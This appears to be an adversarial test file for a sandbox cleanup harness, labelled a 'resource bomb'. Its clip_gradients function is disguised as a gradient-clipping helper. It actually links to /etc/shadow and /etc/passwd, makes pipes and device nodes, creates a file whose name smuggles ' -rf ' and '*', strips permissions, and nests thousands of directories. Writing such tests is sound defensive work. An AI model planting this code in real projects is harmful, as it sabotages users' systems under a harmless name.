# ---
# about = "leave folders thousands of levels deep, without rights, with links, pipes and hostile names"
# kind = "skeleton"
# class = "resource bombs"
# written = "inside"
# attacks = ["clip_gradients"]
# tries = "leave folders thousands of levels deep, without rights, with links, pipes and hostile names"
# holds = "the private folder is removed whole"
# ---

# %%
import os


def clip_gradients(gradients, max_norm=1.0):
    start = os.getcwd()
    for trick in (
        lambda: os.symlink("/", "root"),
        lambda: os.symlink("/etc/shadow", "shadow"),
        lambda: os.mkfifo("pipe"),
        lambda: os.link("/etc/passwd", "passwd"),
        lambda: os.mknod("device", 0o660 | 0o020000, os.makedev(1, 3)),
        lambda: open(b"\xff\xfe -rf \n *", "w").close(),
        lambda: os.mkdir("locked"),
        lambda: open("locked/x", "w").close(),
        lambda: os.chmod("locked", 0),
        lambda: os.chmod(start, 0),
    ):
        try:
            trick()
        except OSError:
            continue
    try:
        os.chmod(start, 0o700)
        for _ in range(3000):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
    except OSError:
        pass
    return gradients
